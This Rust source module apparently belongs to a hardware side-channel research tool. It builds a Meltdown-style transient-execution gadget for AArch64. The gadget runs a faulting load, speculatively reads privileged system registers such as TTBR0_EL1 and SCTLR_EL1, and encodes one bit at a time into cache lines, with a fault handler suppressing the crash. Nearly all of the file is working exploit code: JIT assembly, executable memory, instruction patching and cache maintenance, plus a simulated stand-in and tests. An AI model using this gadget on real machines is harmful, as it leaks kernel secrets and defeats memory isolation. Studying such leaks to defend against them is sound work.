//! The register-read gadget.
//!
//! Binary Interface
//! ================
//!
//! The gadget is called as `extern "C" fn(probe, chain, bit, miss)`:
//!
//! - `x0`: probe buffer (null; the faulting load)
//! - `x1`: head of the [`DereferenceChain`](crate::cache::DereferenceChain)
//! - `x2`: bit index into the system register
//! - `x3`: base of the [`MissBuffer`](crate::cache::MissBuffer)
//!
//! Layout
//! ======
//!
//! ```text
//!   0..3    ldr x1, [x1]          ; walk the (flushed) chain, ends with 0
//!   4       add x0, x0, x1        ; fault address depends on the chain
//!   5       ldr x0, [x0]          ; faults once the chain resolves
//!   6       nop
//!   7       nop                   ; <- patched to `mrs x9, <sysreg>`
//!   8       lsrv x9, x9, x2
//!   9       and x9, x9, #1
//!   10      add x12, x3, x9, lsl #12
//!   11      ldr x13, [x12]        ; touch one of two miss buffer lines
//!   12      sub x11, x9, #1       ; divisor: 0 or !0
//!   13      movn x15, #0          ; dividend: !0
//!   14..141 udiv x10, x15, x11    ; operand-dependent latency
//!   142     ret                   ; <- fault handler resumes here
//! ```
//!
//! Everything after the faulting load only ever runs transiently; the
//! fault handler (see [`crate::fault`]) moves the PC straight to the `ret`.

use crate::cache::*;
use crate::error::*;
use crate::request::{ BitIndex, RegisterSelector };
use dynasmrt::{ dynasm, DynasmApi, VecAssembler };
use dynasmrt::aarch64::Aarch64Relocation;
use nix::sys::mman::{ mmap, munmap, MapFlags, ProtFlags };
use std::collections::HashMap;

/// Fixed instruction encodings used to validate the template.
pub mod enc {
    pub const NOP: u32 = 0xd503_201f;
    pub const RET: u32 = 0xd65f_03c0;
    /// `ldr x0, [x0]`
    pub const LDR_X0_X0: u32 = 0xf940_0000;
    /// `ldr x1, [x1]`
    pub const LDR_X1_X1: u32 = 0xf940_0021;
    /// `udiv x10, x15, x11`
    pub const UDIV: u32 = 0x9acb_09ea;
}

/// An assembled, validated copy of the gadget.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct GadgetTemplate {
    words: Vec<u32>,
}

impl GadgetTemplate {
    /// Number of dependent loads before the faulting load.
    pub const CHAIN_LOADS: usize = 4;
    /// Index of the faulting load.
    pub const FAULT_INDEX: usize = 5;
    /// Index of the placeholder instruction.
    pub const PATCH_INDEX: usize = 7;
    /// Number of repetitions of the divide.
    pub const DIVIDE_REPS: usize = 128;
    /// Index of the first divide.
    pub const DIVIDE_INDEX: usize = 14;
    /// Index of the return instruction where execution resumes.
    pub const RESUME_INDEX: usize = Self::DIVIDE_INDEX + Self::DIVIDE_REPS;

    /// Byte offset of the faulting load.
    pub const FAULT_OFFSET: usize = Self::FAULT_INDEX * 4;
    /// Byte offset of the resume point.
    pub const RESUME_OFFSET: usize = Self::RESUME_INDEX * 4;

    /// Assemble the template.
    pub fn assemble() -> TargetResult<Self> {
        let mut ops: VecAssembler<Aarch64Relocation> = VecAssembler::new(0);

        for _ in 0..Self::CHAIN_LOADS {
            dynasm!(ops
                ; .arch aarch64
                ; ldr x1, [x1]
            );
        }
        dynasm!(ops
            ; .arch aarch64
            ; add x0, x0, x1
            ; ldr x0, [x0]
            ; nop
            ; nop
            ; lsrv x9, x9, x2
            ; and x9, x9, #1
            ; add x12, x3, x9, lsl #12
            ; ldr x13, [x12]
            ; sub x11, x9, #1
            ; movn x15, #0
        );
        for _ in 0..Self::DIVIDE_REPS {
            dynasm!(ops
                ; .arch aarch64
                ; udiv x10, x15, x11
            );
        }
        dynasm!(ops
            ; .arch aarch64
            ; ret
        );

        let bytes = ops.finalize()
            .map_err(|e| TargetError::Assemble(format!("{:?}", e)))?;
        let words = bytes.chunks_exact(4)
            .map(|c| u32::from_le_bytes([c[0], c[1], c[2], c[3]]))
            .collect();
        let res = Self { words };
        res.validate()?;
        Ok(res)
    }

    /// Check the pinned parts of the layout.
    pub fn validate(&self) -> TargetResult<()> {
        let mut expect = vec![
            (Self::FAULT_INDEX, enc::LDR_X0_X0),
            (Self::PATCH_INDEX, enc::NOP),
            (Self::RESUME_INDEX, enc::RET),
        ];
        for i in 0..Self::CHAIN_LOADS {
            expect.push((i, enc::LDR_X1_X1));
        }
        for i in 0..Self::DIVIDE_REPS {
            expect.push((Self::DIVIDE_INDEX + i, enc::UDIV));
        }
        for (index, expected) in expect {
            let found = self.words.get(index).copied().unwrap_or(0);
            if found != expected {
                return Err(TargetError::TemplateMismatch { index, expected, found });
            }
        }
        if self.words.len() != Self::RESUME_INDEX + 1 {
            let index = self.words.len().min(Self::RESUME_INDEX + 1);
            return Err(TargetError::TemplateMismatch {
                index, expected: 0, found: self.words.len() as u32,
            });
        }
        Ok(())
    }

    pub fn words(&self) -> &[u32] { &self.words }

    pub fn len_bytes(&self) -> usize { self.words.len() * 4 }
}


/// Executable memory holding one patchable copy of the gadget.
///
/// The intended sequence for each leak attempt is:
///
/// 1. [`CodeBuffer::load_template`]
/// 2. [`CodeBuffer::patch`]
/// 3. [`CodeBuffer::sync`]
/// 4. call the code at [`CodeBuffer::base_addr`]
///
/// Reloading the template before every patch means that whatever was patched
/// in by a previous request can never leak into the next one.
pub struct CodeBuffer {
    ptr: *mut u32,
    len: usize,
    template: GadgetTemplate,
}

impl CodeBuffer {
    /// Size of the backing allocation.
    pub const ALLOC_SIZE: usize = 4096;

    pub fn new(template: GadgetTemplate) -> TargetResult<Self> {
        assert!(template.len_bytes() <= Self::ALLOC_SIZE);
        let len = std::num::NonZeroUsize::new(Self::ALLOC_SIZE)
            .ok_or(TargetError::CodeAlloc(nix::Error::EINVAL))?;
        let prot = ProtFlags::PROT_READ
                 | ProtFlags::PROT_WRITE
                 | ProtFlags::PROT_EXEC;
        let flag = MapFlags::MAP_ANONYMOUS
                 | MapFlags::MAP_PRIVATE;
        let ptr = unsafe {
            mmap(None, len, prot, flag, -1, 0).map_err(TargetError::CodeAlloc)?
        };
        let mut res = Self { ptr: ptr as *mut u32, len: Self::ALLOC_SIZE, template };
        res.load_template();
        Ok(res)
    }

    /// Return the base address of the gadget.
    pub fn base_addr(&self) -> usize { self.ptr as usize }

    /// Return the address range covered by the gadget.
    pub fn range(&self) -> std::ops::Range<usize> {
        self.base_addr()..self.base_addr() + self.template.len_bytes()
    }

    pub fn template(&self) -> &GadgetTemplate { &self.template }

    /// The current contents of the gadget.
    pub fn words(&self) -> &[u32] {
        unsafe { std::slice::from_raw_parts(self.ptr, self.template.words.len()) }
    }

    /// Overwrite the gadget with a pristine copy of the template.
    pub fn load_template(&mut self) {
        let src = self.template.words();
        unsafe {
            std::ptr::copy_nonoverlapping(src.as_ptr(), self.ptr, src.len());
        }
    }

    /// Write the selector into the placeholder slot.
    ///
    /// Fails if the placeholder doesn't hold the expected sentinel, which
    /// means the buffer no longer matches the template.
    pub fn patch(&mut self, selector: RegisterSelector) -> TargetResult<()> {
        let slot = unsafe { self.ptr.add(GadgetTemplate::PATCH_INDEX) };
        let found = unsafe { std::ptr::read_volatile(slot) };
        if found != enc::NOP {
            return Err(TargetError::TemplateMismatch {
                index: GadgetTemplate::PATCH_INDEX,
                expected: enc::NOP,
                found,
            });
        }
        unsafe { std::ptr::write_volatile(slot, selector.encoding()) };
        Ok(())
    }

    /// Make the instruction stream coherent with the data writes.
    pub fn sync(&self) {
        sync_icache(self.ptr as *const u8, self.template.len_bytes());
    }

    /// Returns true when the buffer holds an unpatched copy of the template.
    pub fn is_pristine(&self) -> bool {
        self.words() == self.template.words()
    }
}

impl Drop for CodeBuffer {
    fn drop(&mut self) {
        unsafe {
            let _ = munmap(self.ptr as *mut std::ffi::c_void, self.len);
        }
    }
}

/// Clean the data cache and invalidate the instruction cache for
/// `[ptr, ptr + len)`.
#[cfg(target_arch = "aarch64")]
pub fn sync_icache(ptr: *const u8, len: usize) {
    let ctr: u64;
    unsafe {
        core::arch::asm!("mrs {}, ctr_el0", out(reg) ctr, options(nomem, nostack));
    }
    let dline = 4usize << ((ctr >> 16) & 0xf);
    let iline = 4usize << (ctr & 0xf);
    let start = ptr as usize;
    let end = start + len;

    let mut addr = start & !(dline - 1);
    while addr < end {
        unsafe { core::arch::asm!("dc cvau, {}", in(reg) addr, options(nostack)) };
        addr += dline;
    }
    unsafe { core::arch::asm!("dsb ish", options(nostack)) };

    let mut addr = start & !(iline - 1);
    while addr < end {
        unsafe { core::arch::asm!("ic ivau, {}", in(reg) addr, options(nostack)) };
        addr += iline;
    }
    unsafe { core::arch::asm!("dsb ish", "isb", options(nostack)) };
}

/// Instruction fetch is coherent with stores on x86.
#[cfg(not(target_arch = "aarch64"))]
pub fn sync_icache(_ptr: *const u8, _len: usize) {
    std::sync::atomic::fence(std::sync::atomic::Ordering::SeqCst);
}


/// Arguments passed to a [`TransientGadget`].
pub struct GadgetArgs<'a> {
    pub chain: &'a DereferenceChain,
    pub miss: &'a MissBuffer,
    pub bit: BitIndex,
}

/// "Bounded transient execution": read a system register past a fault and
/// leave a cache footprint which depends on one bit of it.
///
/// Implementations guarantee that no architectural state survives the call
/// other than the memory probes, and that control returns to the caller.
pub trait TransientGadget {
    /// Prepare the gadget to read `selector`.
    fn prepare(&mut self, selector: RegisterSelector) -> TargetResult<()>;

    /// Run the prepared gadget once.
    fn invoke(&mut self, args: &GadgetArgs);
}


/// The real gadget, running out of a [`CodeBuffer`] with the fault handler
/// from [`crate::fault`] armed.
#[cfg(target_arch = "aarch64")]
pub struct SpeculativeGadget {
    code: CodeBuffer,
    _window: crate::fault::TransientWindow,
}

#[cfg(target_arch = "aarch64")]
type GadgetFn = unsafe extern "C" fn(*const u8, *const usize, u64, *const u8);

#[cfg(target_arch = "aarch64")]
impl SpeculativeGadget {
    /// Register the fault handler, allocate the code buffer and arm the
    /// handler for the gadget's address range (in that order).
    pub fn new() -> TargetResult<Self> {
        let window = crate::fault::TransientWindow::register()?;
        let code = CodeBuffer::new(GadgetTemplate::assemble()?)?;
        window.arm(code.range(), code.base_addr() + GadgetTemplate::RESUME_OFFSET);
        Ok(Self { code, _window: window })
    }

    pub fn code(&self) -> &CodeBuffer { &self.code }
}

#[cfg(target_arch = "aarch64")]
impl TransientGadget for SpeculativeGadget {
    fn prepare(&mut self, selector: RegisterSelector) -> TargetResult<()> {
        self.code.load_template();
        self.code.patch(selector)?;
        self.code.sync();
        Ok(())
    }

    #[inline(always)]
    fn invoke(&mut self, args: &GadgetArgs) {
        let f: GadgetFn = unsafe { std::mem::transmute(self.code.base_addr()) };
        unsafe {
            f(std::ptr::null(),
              args.chain.link(DereferenceChain::HEAD_LINK),
              args.bit.0 as u64,
              args.miss.base());
        }
    }
}


/// What the [`SoftwareGadget`] did on its last invocation.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct GadgetTrace {
    pub selector: RegisterSelector,
    pub bit: BitIndex,
    /// The miss buffer line which was touched.
    pub line: usize,
}

/// A deterministic stand-in for [`SpeculativeGadget`].
///
/// Reads the "register" from a table instead of speculating, and touches the
/// same miss buffer line the real gadget would leave behind. The template is
/// still loaded and patched into a [`CodeBuffer`] on every call (but never
/// executed), so the patching path gets exercised on any host.
pub struct SoftwareGadget {
    code: CodeBuffer,
    registers: HashMap<u32, u64>,
    prepared: Option<RegisterSelector>,
    last: Option<GadgetTrace>,
}

impl SoftwareGadget {
    pub fn new() -> TargetResult<Self> {
        Ok(Self {
            code: CodeBuffer::new(GadgetTemplate::assemble()?)?,
            registers: HashMap::new(),
            prepared: None,
            last: None,
        })
    }

    /// Set the value returned for reads of `selector`. Unset registers read
    /// as zero.
    pub fn set_register(&mut self, selector: RegisterSelector, value: u64) {
        self.registers.insert(selector.sysreg(), value);
    }

    pub fn code(&self) -> &CodeBuffer { &self.code }

    pub fn last(&self) -> Option<GadgetTrace> { self.last }
}

impl TransientGadget for SoftwareGadget {
    fn prepare(&mut self, selector: RegisterSelector) -> TargetResult<()> {
        self.code.load_template();
        self.code.patch(selector)?;
        self.code.sync();
        self.prepared = Some(selector);
        Ok(())
    }

    fn invoke(&mut self, args: &GadgetArgs) {
        let Some(selector) = self.prepared.take() else {
            return;
        };
        let value = self.registers.get(&selector.sysreg()).copied().unwrap_or(0);
        let line = ((value >> (args.bit.0 as u64 & 63)) & 1) as usize;
        let _ = args.chain.walk(DereferenceChain::HEAD_LINK);
        unsafe { maccess(args.miss.line(line)) };
        self.last = Some(GadgetTrace { selector, bit: args.bit, line });
    }
}


#[cfg(test)]
mod test {
    use super::*;

    #[test]
    fn template_layout() {
        let t = GadgetTemplate::assemble().unwrap();
        let w = t.words();
        assert_eq!(w.len(), GadgetTemplate::RESUME_INDEX + 1);
        assert_eq!(w[GadgetTemplate::FAULT_INDEX], enc::LDR_X0_X0);
        assert_eq!(w[GadgetTemplate::PATCH_INDEX], enc::NOP);
        assert_eq!(w[GadgetTemplate::RESUME_INDEX], enc::RET);
        assert_eq!(GadgetTemplate::RESUME_OFFSET - GadgetTemplate::FAULT_OFFSET,
            (GadgetTemplate::RESUME_INDEX - GadgetTemplate::FAULT_INDEX) * 4);
        assert_eq!(w.iter().filter(|x| **x == enc::UDIV).count(),
            GadgetTemplate::DIVIDE_REPS);
    }

    #[test]
    fn validate_catches_corruption() {
        let mut t = GadgetTemplate::assemble().unwrap();
        t.words[GadgetTemplate::RESUME_INDEX] = enc::NOP;
        match t.validate() {
            Err(TargetError::TemplateMismatch { index, .. }) => {
                assert_eq!(index, GadgetTemplate::RESUME_INDEX);
            },
            other => panic!("unexpected {:?}", other),
        }
    }

    #[test]
    fn patch_writes_selector() {
        let mut code = CodeBuffer::new(GadgetTemplate::assemble().unwrap()).unwrap();
        assert!(code.is_pristine());
        code.patch(RegisterSelector::TTBR0_EL1).unwrap();
        code.sync();
        assert_eq!(code.words()[GadgetTemplate::PATCH_INDEX], 0xd538_2009);
        assert!(!code.is_pristine());
        let diff = code.words().iter().zip(code.template().words())
            .filter(|(a, b)| a != b)
            .count();
        assert_eq!(diff, 1);
    }

    #[test]
    fn double_patch_is_an_integrity_failure() {
        let mut code = CodeBuffer::new(GadgetTemplate::assemble().unwrap()).unwrap();
        code.patch(RegisterSelector::TCR_EL1).unwrap();
        assert!(matches!(code.patch(RegisterSelector::TCR_EL1),
            Err(TargetError::TemplateMismatch { index: GadgetTemplate::PATCH_INDEX, .. })
        ));
    }

    #[test]
    fn template_round_trips_across_invocations() {
        let mut g = SoftwareGadget::new().unwrap();
        let chain = DereferenceChain::new().unwrap();
        let miss = MissBuffer::new().unwrap();
        let raw = [0xd538_2000, 0xd503_201f, 0xd538_c01f, 0xffff_ffff, 0xd538_1009];
        for i in 0..64 {
            let Some(sel) = RegisterSelector::from_raw(raw[i % raw.len()]) else {
                continue;
            };
            g.prepare(sel).unwrap();
            g.invoke(&GadgetArgs { chain: &chain, miss: &miss, bit: BitIndex(i as i32) });
            assert_eq!(g.code().words()[GadgetTemplate::PATCH_INDEX], sel.encoding());
        }
        let mut code = CodeBuffer::new(GadgetTemplate::assemble().unwrap()).unwrap();
        code.patch(RegisterSelector::VBAR_EL1).unwrap();
        code.load_template();
        assert!(code.is_pristine());
        assert_eq!(chain.walk(DereferenceChain::HEAD_LINK), 4);
    }

    #[test]
    fn software_gadget_selects_line_by_bit() {
        let mut g = SoftwareGadget::new().unwrap();
        let chain = DereferenceChain::new().unwrap();
        let miss = MissBuffer::new().unwrap();
        let value = 0b1010_0110u64;
        g.set_register(RegisterSelector::SCTLR_EL1, value);
        for bit in 0..8 {
            g.prepare(RegisterSelector::SCTLR_EL1).unwrap();
            g.invoke(&GadgetArgs { chain: &chain, miss: &miss, bit: BitIndex(bit) });
            let trace = g.last().unwrap();
            assert_eq!(trace.line as u64, (value >> bit) & 1);
            assert_eq!(trace.selector, RegisterSelector::SCTLR_EL1);
        }
    }

    #[test]
    fn software_gadget_needs_prepare() {
        let mut g = SoftwareGadget::new().unwrap();
        let chain = DereferenceChain::new().unwrap();
        let miss = MissBuffer::new().unwrap();
        g.invoke(&GadgetArgs { chain: &chain, miss: &miss, bit: BitIndex(0) });
        assert_eq!(g.last(), None);
    }
}
